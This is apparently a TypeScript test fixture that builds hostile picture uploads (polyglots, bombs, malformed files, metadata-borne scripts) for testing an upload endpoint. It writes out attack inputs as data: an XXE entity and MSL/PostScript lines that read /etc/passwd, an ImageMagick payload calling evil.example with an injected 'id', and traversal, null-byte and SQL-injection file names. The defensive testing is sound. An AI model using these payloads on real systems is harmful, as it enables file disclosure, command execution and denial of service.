import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import {
  bytes,
  claiming,
  gif,
  gifComment,
  gifFrame,
  jpegSegment,
  PAYLOAD,
  PNG_START,
  photo,
  png,
  pngChunk,
  times,
  uint32,
  validPictures,
  withSegments,
} from './picture-bytes.fixture.ts'

export interface HostilePicture {
  readonly title: string
  readonly file: Buffer
  readonly name?: string
  /** The expected status; `either` allows a refusal or a harmless picture. */
  readonly outcome: 200 | 400 | 413 | 415 | 'either'
}
const MIB = 1024 * 1024
const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>${PAYLOAD}</script></svg>`
const HTML = `<!doctype html><script>${PAYLOAD}</script>`

const wrongTypes: Record<string, Buffer | string> = {
  'an SVG': SVG,
  'an SVG behind a prolog': `<?xml version="1.0"?>${SVG}`,
  'an SVG behind a byte order mark': `\xef\xbb\xbf${SVG}`,
  'an SVG that reads a file': '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
  'a zipped SVG': bytes([0x1f, 0x8b, 8], SVG),
  'a page': HTML,
  'a page behind blanks': `   \n${HTML}`,
  'a PHP script': PAYLOAD,
  'a shell script': '#!/bin/sh\nid',
  'an ImageMagick script': 'push graphic-context\nfill \'url(https://evil.example/"|id")\'\npop graphic-context',
  'an MSL script': '<image><read filename="/etc/passwd"/></image>',
  PostScript: '%!PS\n(/etc/passwd) (r) file',
  'a PDF': '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj',
  'a zip': bytes([0x50, 0x4b, 3, 4], PAYLOAD),
  'a Windows program': bytes('MZ', Buffer.alloc(200)),
  'a Linux program': bytes([0x7f], 'ELF', Buffer.alloc(200)),
  'a TIFF': bytes('II*\0', [8, 0, 0, 0], Buffer.alloc(200)),
  'a BMP': bytes('BM', Buffer.alloc(200)),
  'an icon': bytes([0, 0, 1, 0, 1, 0], Buffer.alloc(200)),
  'a Photoshop file': bytes('8BPS', [0, 1], Buffer.alloc(200)),
  'a HEIC': bytes([0, 0, 0, 24], 'ftypheic', Buffer.alloc(200)),
  'an AVIF': bytes([0, 0, 0, 24], 'ftypavif', Buffer.alloc(200)),
  'a WebP': bytes('RIFF', [20, 0, 0, 0], 'WEBPVP8L', Buffer.alloc(40)),
  'a film': bytes([0x1a, 0x45, 0xdf, 0xa3], Buffer.alloc(200)),
  'a portable pixmap': 'P6 4000 4000 255\n',
  'a raw vips file': bytes([0xb6, 0xa6, 0xf2, 0x08], Buffer.alloc(200)),
  blanks: ' '.repeat(64),
  'one byte': Buffer.from([0x89]),
  'seven bytes of a PNG': PNG_START.subarray(0, 7),
  'a PNG that lost its line break': bytes([0x89], 'PNG', [0x0a, 0x1a, 0x0a, 0], Buffer.alloc(100)),
}
const beginnings = { PNG: PNG_START, JPEG: Buffer.from([0xff, 0xd8, 0xff, 0xe0]), GIF: Buffer.from('GIF89a') }
const insides = { 'a page': HTML, 'an SVG': SVG, nothing: '', zeros: Buffer.alloc(5000), 'a zip': bytes([0x50, 0x4b, 3, 4], PAYLOAD) }
const tails = {
  PHP: PAYLOAD,
  'a page': HTML,
  'a zip': bytes([0x50, 0x4b, 3, 4], PAYLOAD, Buffer.alloc(40), [0x50, 0x4b, 5, 6], Buffer.alloc(18)),
  'a program': bytes('MZ', PAYLOAD),
}
const NAMES = [
  '../../../etc/passwd.png',
  '..\\..\\windows\\win.png',
  'dish.png\0.php',
  '.htaccess',
  'dish.php',
  'con.png',
  `${'x'.repeat(3000)}.png`,
  '<script>alert(1)</script>.png',
  'dish\u202egnp.exe',
  "dish'; drop table products; --.png",
]

/** Returns files that an upload must refuse or clean, with the expected outcome. */
export async function hostilePictures(): Promise<HostilePicture[]> {
  const whole = { PNG: await validPictures.png(), JPEG: await validPictures.jpeg(), GIF: await validPictures.gif() }
  const formats = Object.entries(whole)
  const list: HostilePicture[] = [{ title: 'an empty file', file: Buffer.alloc(0), outcome: 400 }]
  for (const [title, file] of Object.entries(wrongTypes)) list.push({ title, file: bytes(file), outcome: 415 })
  for (const [format, start] of Object.entries(beginnings))
    for (const [inside, content] of Object.entries(insides))
      list.push({
        title: `${inside} behind the first bytes of a ${format}`,
        file: bytes(start, content),
        outcome: inside === 'nothing' ? 'either' : 400,
      })
  for (const [format, file] of formats) {
    for (const [tail, content] of Object.entries(tails))
      list.push({ title: `a ${format} with ${tail} behind it`, file: bytes(file, content), outcome: 200 })
    for (const part of [0.1, 0.5, 0.9])
      list.push({ title: `${part * 100} % of a ${format}`, file: file.subarray(0, file.length * part), outcome: 400 })
    list.push({ title: `a ${format} without its last byte`, file: file.subarray(0, -1), outcome: 'either' })
    for (let seed = 1; seed <= 6; seed += 1)
      list.push({ title: `a ${format} with faults, ${seed}`, file: spoilt(file, seed), outcome: 'either' })
  }
  for (const name of NAMES) list.push({ title: `a picture called ${name.slice(0, 40)}`, file: whole.PNG, name, outcome: 200 })
  return [...list, ...(await withHiddenThings(whole.JPEG)), ...(await bombs(whole.JPEG)), ...brokenOnes(whole.JPEG), ...animations()]
}

function spoilt(file: Buffer, seed: number): Buffer {
  const copy = Buffer.from(file)
  let state = seed * 7919
  for (let fault = 0; fault < 40; fault += 1) {
    state = (state * 1103515245 + 12345) % 2147483648
    copy[16 + (state % (copy.length - 16))] = state >> 8
  }
  return copy
}

async function withHiddenThings(jpeg: Buffer): Promise<HostilePicture[]> {
  const gps = {
    IFD0: { Make: PAYLOAD, Copyright: 'Rahmat' },
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '9/1 58/1 0/1', GPSLongitude: '76/1 14/1 0/1' },
  }
  const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF>${PAYLOAD}</rdf:RDF></x:xmpmeta>`
  const text = (type: string, data: Buffer) => png(20, 20, { chunks: [pngChunk(type, data)] })
  const icc = (profile: Buffer) => withSegments(jpeg, jpegSegment(0xe2, bytes('ICC_PROFILE\0', [1, 1], profile)))
  const hidden: Record<string, Buffer> = {
    'EXIF that names a place': await photo(80, 60).jpeg().withExif(gps).toBuffer(),
    'EXIF in a PNG': await photo(80, 60).png().withExif(gps).toBuffer(),
    XMP: await photo(80, 60).jpeg().withXmp(xmp).toBuffer(),
    'a comment with a script': withSegments(jpeg, jpegSegment(0xfe, Buffer.from(PAYLOAD))),
    'four thousand comments': withSegments(jpeg, times(4000, jpegSegment(0xfe, Buffer.from(PAYLOAD)))),
    'Photoshop’s notes': withSegments(jpeg, jpegSegment(0xed, bytes('Photoshop 3.0\0', PAYLOAD))),
    'an EXIF that points out of the file': withSegments(jpeg, jpegSegment(0xe1, bytes('Exif\0\0II*\0', [0xff, 0xff, 0xff, 0x7f], PAYLOAD))),
    'a colour profile of rubbish': icc(bytes(PAYLOAD, Buffer.alloc(500, 7))),
    'a colour profile that claims four gigabytes': icc(bytes(uint32(0xffffffff), 'lcms', Buffer.alloc(200), PAYLOAD)),
    'a text chunk': text('tEXt', bytes('Comment\0', PAYLOAD)),
    'an international text chunk': text('iTXt', bytes('XML:com.adobe.xmp\0\0\0\0\0', xmp)),
    'a chunk of its own': text('evIl', Buffer.from(PAYLOAD)),
    'a GIF comment': gif(1, 1, gifComment(PAYLOAD), gifFrame()),
    'a GIF application’s block': gif(1, 1, bytes([0x21, 0xff, 11], 'XMP DataXMP', [PAYLOAD.length], PAYLOAD, [0]), gifFrame()),
  }
  return Object.entries(hidden).map(([title, file]) => ({ title: `a picture with ${title}`, file, outcome: 200 }))
}

async function bombs(jpeg: Buffer): Promise<HostilePicture[]> {
  const zeros = deflateSync(Buffer.alloc(60 * MIB), { level: 9 })
  const large = photo(7000, 7000)
  return [
    { title: 'sixty megapixels in a few bytes', file: png(10_000, 6_000), outcome: 413 },
    { title: 'a PNG as large as numbers go', file: png(0x7fffffff, 0x7fffffff, { rows: Buffer.alloc(10) }), outcome: 'either' },
    { title: 'a PNG one pixel wide and a million high', file: png(1, 1_000_000, { rows: Buffer.alloc(2_000_000) }), outcome: 'either' },
    { title: 'a PNG a million wide and one pixel high', file: png(1_000_000, 1), outcome: 'either' },
    // few bytes and few pixels, but so many rows, or such long ones, that decoding takes seconds
    { title: 'ten million rows of one pixel', file: png(1, 10_000_000, { colour: 6, rows: Buffer.alloc(50_000_000) }), outcome: 413 },
    { title: 'twelve million rows of four pixels', file: png(4, 12_500_000, { depth: 1, rows: Buffer.alloc(25_000_000) }), outcome: 413 },
    { title: 'fifty million pixels in a row', file: png(50_000_000, 1, { depth: 1, rows: Buffer.alloc(6_250_001) }), outcome: 413 },
    { title: 'twenty thousand pixels by a hundred', file: png(20_000, 100), outcome: 413 },
    { title: 'a JPEG of 4 gigapixels', file: claiming(jpeg, 65_500, 65_500), outcome: 413 },
    { title: 'a GIF of 4 gigapixels', file: gif(65_535, 65_535, gifFrame()), outcome: 'either' },
    { title: 'a GIF whose frame is larger than itself', file: gif(10, 10, gifFrame(65_535, 65_535)), outcome: 'either' },
    { title: 'a PNG with sixty megabytes more than it shows', file: png(20, 20, { rows: Buffer.alloc(60 * MIB) }), outcome: 'either' },
    { title: 'sixty megabytes of text', file: png(20, 20, { chunks: [pngChunk('zTXt', bytes('a\0\0', zeros))] }), outcome: 'either' },
    {
      title: 'a colour profile of sixty megabytes',
      file: png(20, 20, { chunks: [pngChunk('iCCP', bytes('a\0\0', zeros))] }),
      outcome: 'either',
    },
    {
      title: 'forty thousand empty chunks',
      file: png(20, 20, { chunks: [times(40_000, pngChunk('IDAT', Buffer.alloc(0)))] }),
      outcome: 'either',
    },
    // decoded as a whole: on an overloaded machine this exceeds the time limit
    { title: '49 megapixels, progressive', file: await large.jpeg({ progressive: true, quality: 40 }).toBuffer(), outcome: 'either' },
    {
      title: '49 megapixels of sixteen bits, interlaced',
      file: png(7000, 7000, { depth: 16, colour: 6, interlace: 1, rows: Buffer.alloc(1000) }),
      outcome: 400,
    },
    { title: 'ten megabytes and one byte', file: bytes(jpeg, Buffer.alloc(10 * MIB + 1 - jpeg.length)), outcome: 413 },
    { title: 'twelve megabytes of rubbish', file: Buffer.alloc(12 * MIB, 0x89), outcome: 413 },
    {
      title: 'ten megabytes, nearly all of them behind the picture',
      file: bytes(jpeg, Buffer.alloc(10 * MIB - jpeg.length)),
      outcome: 200,
    },
  ]
}

function brokenOnes(jpeg: Buffer): HostilePicture[] {
  const broken: Record<string, Buffer> = {
    'a PNG with a wrong checksum': bytes(png(20, 20).subarray(0, 29), uint32(1), png(20, 20).subarray(33)),
    'a PNG of no size': png(0, 0, { rows: Buffer.alloc(1) }),
    'a PNG of a colour type that is none': png(20, 20, { colour: 5 }),
    'a PNG of 255 bits': png(20, 20, { depth: 255 }),
    'a PNG without its palette': png(20, 20, { colour: 3 }),
    'a PNG with too few rows': png(200, 200, { rows: Buffer.alloc(300) }),
    'a JPEG of no size': claiming(jpeg, 0, 0),
    'a JPEG without its tables': bytes(jpeg.subarray(0, 2), jpegSegment(0xc0, bytes([8, 0, 20, 0, 20, 1, 1, 0x11, 0])), [0xff, 0xd9]),
    'a GIF of no size': gif(0, 0, gifFrame(0, 0)),
    'a GIF without a frame': gif(10, 10),
  }
  return Object.entries(broken).map(([title, file]) => ({ title, file, outcome: 'either' }))
}

const animations = (): HostilePicture[] => [
  { title: 'ten thousand frames', file: gif(64, 64, times(10_000, gifFrame())), outcome: 200 },
  { title: 'two hundred thousand frames', file: gif(64, 64, times(200_000, gifFrame())), outcome: 200 },
  { title: 'frames outside of the picture', file: gif(64, 64, gifFrame(60, 60, 60_000, 60_000), gifFrame()), outcome: 'either' },
  {
    title: 'a PNG that moves',
    file: png(20, 20, { chunks: [pngChunk('acTL', bytes(uint32(10_000), uint32(0)))] }),
    outcome: 200,
  },
]

/** Returns what a served picture contains besides its pixels. */
export async function hiddenIn(picture: Buffer): Promise<string[]> {
  const { format, exif, xmp, icc, iptc, orientation, pages } = await sharp(picture).metadata()
  const found = Object.entries({ exif, xmp, icc, iptc, orientation, pages }).flatMap(([what, value]) => (value === undefined ? [] : [what]))
  if (format !== 'webp') found.push(`format ${format}`)
  // long enough not to occur in pixels by chance
  if (/PAYLOAD|<\?php|<script|GPSLatitude|Rahmat/i.test(picture.toString('latin1'))) found.push('a payload')
  return found
}
